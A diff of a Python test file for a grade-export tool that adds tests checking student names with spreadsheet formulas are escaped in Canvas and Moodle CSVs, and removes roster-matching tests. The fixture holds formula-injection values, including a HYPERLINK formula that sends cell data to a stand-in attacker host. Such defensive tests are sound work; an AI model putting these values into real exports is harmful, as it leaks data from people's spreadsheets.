@@ -7,13 +7,8 @@ import sys
 from datetime import datetime, timedelta
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 from nbgrader.api import Gradebook
 
-from autograde.grading.export import table
-from autograde.grading.recorded import Person
-from autograde.grading.roster import match, read_roster
 from tests.instructor import ABSENT, NAMES, UNIT, UNITS, say
 
 CANVAS = """\
@@ -150,6 +145,51 @@ def test_moodle_without_a_roster(late):
     assert ["Zoë", "Nobody", "zoe", "zoe@uni.example", ""] in students
 
 
+EVIL = '=HYPERLINK("https://evil.example/"&A1)'
+
+
+@pytest.fixture
+def formulas(late):
+    """A class in which students chose names that a spreadsheet would run."""
+    with Gradebook(f"sqlite:///{late / 'gradebook.db'}") as gradebook:
+        gradebook.update_or_create_student("ada", first_name=EVIL, last_name="+1+1")
+        gradebook.update_or_create_student("emil", first_name="-2", last_name="@SUM(A1)", email="=1+1|x@uni.example")
+        gradebook.update_or_create_student("hugo", first_name="\t=1", last_name="a;=1+1", email="-hugo+x@uni.example")
+    return late
+
+
+def test_no_cell_that_a_spreadsheet_would_run(formulas):
+    for to in ("csv", "canvas", "moodle"):
+        result = export(formulas, UNIT, "--to", to)
+        for cell in (cell for row in rows(formulas / f"grades-{to}.csv") for cell in row):
+            assert not cell.lstrip().startswith(("=", "+", "@")), (to, cell)
+            assert not (cell.lstrip().startswith("-") and "(" in cell), (to, cell)
+            assert ";=" not in cell
+    names = {row[2]: row[:2] for row in rows(formulas / "grades-moodle.csv")}
+    assert names["ada"] == [f"'{EVIL}", "'+1+1"]
+    # what Moodle finds people by stays as it is, where nothing could be called by it
+    assert {row[3] for row in rows(formulas / "grades-moodle.csv")} >= {"-hugo+x@uni.example", "'=1+1|x@uni.example"}
+    assert "The id, number or address of 1 student (emil) is written with an apostrophe" in told(result)
+
+
+def test_a_systems_own_export_comes_back_as_it_was_but_for_formulas(late, tmp_path):
+    roster = tmp_path / "canvas.csv"
+    text = "Student,ID,SIS User ID,SIS Login ID,Section\n"
+    text += '"=""=1, Ada""",101,-S1,ada,"M, 1"\n"@SUM(1), Béla",102,+49 12,bela,M\n'
+    roster.write_text(text, encoding="utf-8")
+    export(late, UNIT, "--to", "canvas", "--roster", roster)
+    assert [row[:5] for row in rows(late / "grades-canvas.csv")[2:]] == [
+        ['="=1, Ada"', "101", "-S1", "ada", "M, 1"],  # as Canvas itself writes what begins with =
+        ["'@SUM(1), Béla", "102", "+49 12", "bela", "M"],
+    ]
+    roster = tmp_path / "moodle.csv"
+    roster.write_text("Vorname;Nachname;ID-Nummer;E-Mail-Adresse;Gruppe\n=1;Ö;-7;ada@uni.example;A\n", encoding="utf-8")
+    export(late, UNIT, "--to", "moodle", "--roster", roster)
+    header, line = rows(late / "grades-moodle.csv")
+    assert header[:4] == ["Vorname", "Nachname", "ID-Nummer", "E-Mail-Adresse"]
+    assert line == ["'=1", "Ö", "-7", "ada@uni.example", "14.50000"]
+
+
 def test_the_summary_in_json_names_who_is_missing(late, tmp_path):
     roster = tmp_path / "moodle.csv"
     roster.write_text(MOODLE, encoding="utf-8")
@@ -166,46 +206,6 @@ def test_a_second_export_without_mismatches_takes_the_old_list_away(late, tmp_pa
     assert (late / "grades-moodle-unmatched.csv").exists()
     export(late, "--to", "moodle")
     assert not (late / "grades-moodle-unmatched.csv").exists()
-
-
-# who is who
-
-
-def people(*ids, **others):
-    return {name: Person(name, **others.get(name, {})) for name in (*ids, *others)}
-
-
-def roster_of(tmp_path, text):
-    path = tmp_path / "roster.csv"
-    path.write_text(text, encoding="utf-8")
-    return read_roster(path)
-
-
-def test_where_id_and_address_disagree_nobody_is_guessed(tmp_path):
-    roster = roster_of(tmp_path, "id,email\nada,a@x\nbob,b@x\n")
-    found = match(people(ada={"email": "b@x"}), roster)
-    assert found.entries == {}
-    assert found.unmatched["ada"] == "could be lines 2 and 3 of roster.csv: id and e-mail address disagree"
-
-
-def test_two_students_cannot_be_one_line(tmp_path):
-    roster = roster_of(tmp_path, "id,email\nada,a@x\n")
-    found = match(people("ada", other={"email": "A@X"}), roster)
-    assert found.entries == {}
-    assert found.unmatched["ada"] == "line 2 of roster.csv belongs to other too"
-
-
-IDS = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Z")), min_size=1, max_size=8)
-
-
-@given(st.lists(IDS, min_size=1, max_size=8, unique_by=lambda s: s.strip().casefold()))
-def test_ids_survive_the_way_through_a_file(tmp_path_factory, ids):
-    path = tmp_path_factory.mktemp("roster") / "r.csv"
-    path.write_bytes(table([("id", "email"), *((name, "") for name in ids)]))
-    roster = read_roster(path)
-    found = match(people(*ids), roster)
-    assert set(found.entries) == set(ids)
-    assert found.unmatched == {}
 
 
 # students from a list
